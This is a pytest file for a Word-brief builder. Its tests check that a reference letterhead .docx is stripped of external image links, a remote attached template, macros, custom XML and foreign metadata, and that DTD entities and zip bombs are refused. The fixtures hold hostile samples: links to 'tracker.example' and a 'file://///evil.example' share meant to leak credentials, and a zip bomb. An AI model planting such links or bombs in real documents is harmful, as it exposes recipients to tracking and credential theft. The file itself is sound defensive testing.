"""A reference Word file from another office passes through an allow-list (writers/docx/reference)."""
from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest

from .conftest import nothing_written, one_error, run, write_spec



def png() -> bytes:
    from PIL import Image
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, "PNG")
    return buffer.getvalue()


def letterhead(path):
    reference = docx.Document()
    header = reference.sections[0].header
    header.paragraphs[0].text = "上栗县人民政府办公室"
    header.paragraphs[0].add_run().add_picture(io.BytesIO(png()))
    reference.save(path)


def rewrite(path, change):
    """Apply change(parts: dict) to the package's parts and save it back."""
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def poison(parts):
    header = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
    rels = header.replace("word/", "word/_rels/") + ".rels"
    # Pictures fetched from outside: by http and by a Windows share (credentials leak).
    parts[rels] = parts[rels].replace(b"</Relationships>",
        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="http://tracker.example/p.png" TargetMode="External"/>'
        b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="file://///evil.example/share/p.png" TargetMode="External"/></Relationships>')
    parts[header] = parts[header].replace(b'r:embed="', b'r:link="rIdX1" r:embed="', 1)
    # An attached template on a share, macros, custom XML, another office's properties.
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
    srels = "word/_rels/settings.xml.rels"
    parts[srels] = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="file:///C:/Templates/evil.dotm" TargetMode="External"/></Relationships>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    parts["customXml/item1.xml"] = b"<secret>other office</secret>"
    parts["docProps/custom.xml"] = "<Properties><property name='Owner'>某局</property></Properties>".encode()
    parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(b"python-docx", "某局 张三".encode())


def test_unsafe_parts_never_reach_the_brief(ws):
    letterhead(ws / "letterhead.docx")
    rewrite(ws / "letterhead.docx", poison)
    write_spec(ws, "reference_docx: letterhead.docx\nformats: [docx]\nsections:\n  - section: health\n")
    result = run("build", cwd=ws)
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(ws / "out" / "t.docx") as z:
        names = z.namelist()
        everything = b"".join(z.read(n) for n in names)
    assert not [n for n in names if "vba" in n.lower() or n.startswith("customXml")]
    # docProps/custom.xml is the brief's own (the spec, for verify), never the letterhead's
    with zipfile.ZipFile(ws / "out" / "t.docx") as z:
        custom = z.read("docProps/custom.xml").decode("utf-8")
    assert "Owner" not in custom and 'name="shangli-brief spec"' in custom
    for bad in (b"External", b"tracker.example", b"evil", b"attachedTemplate", "某局".encode(),
                b"r:link"):
        assert bad not in everything, bad
    out = docx.Document(ws / "out" / "t.docx")
    assert out.sections[0].header.paragraphs[0].text == "上栗县人民政府办公室"
    assert out.sections[0].header.part.rels  # the local picture of the letterhead is kept
    assert out.core_properties.author == "上栗县发展和改革委员会"
    audit = subprocess.run([str(Path(sys.executable).parent / "openxml-audit"), "-f", "microsoft365",
                            str(ws / "out" / "t.docx")], capture_output=True, text=True)
    assert audit.returncode == 0 and "Errors: 0" in audit.stdout, audit.stdout


def test_a_reference_with_a_dtd_is_refused(ws):
    letterhead(ws / "letterhead.docx")

    def entity(parts):
        header = next(n for n in parts if re.fullmatch(r"word/header\d*\.xml", n))
        parts[header] = parts[header].replace(
            b"?>", b'?><!DOCTYPE w:hdr [<!ENTITY x "entity text">]>', 1).replace(
            "上栗县人民政府办公室".encode(), b"&x;")
    rewrite(ws / "letterhead.docx", entity)
    write_spec(ws, "reference_docx: letterhead.docx\nsections:\n  - section: health\n")
    result = run("build", cwd=ws)
    assert result.returncode == 2
    line = one_error(result)
    assert line.startswith("error: letterhead.docx: the reference Word file declares a DTD or "
                           "entities in word/header"), line
    assert line.endswith("(Word, WPS and Excel never write one); save it again from Word or WPS")
    assert nothing_written(ws)


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_zip_bombs_are_refused_before_inflating(ws, kind):
    """A 2.9 MB file that inflates to gigabytes: refused from the zip directory alone."""
    path = ws / ("letterhead.docx" if kind == "docx" else "data/update.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml" if kind == "docx" else "xl/workbook.xml", b"\0" * 300_000_000)
    assert path.stat().st_size < 1_000_000
    key = "reference_docx: letterhead.docx" if kind == "docx" else "data: [data/update.xlsx]"
    write_spec(ws, key + "\nsections:\n  - section: health\n")
    result = run("build", cwd=ws, timeout=30)
    assert result.returncode == 2
    line = one_error(result)
    assert "refusing the" in line and "a real file stays far below that" in line, line
    assert nothing_written(ws)
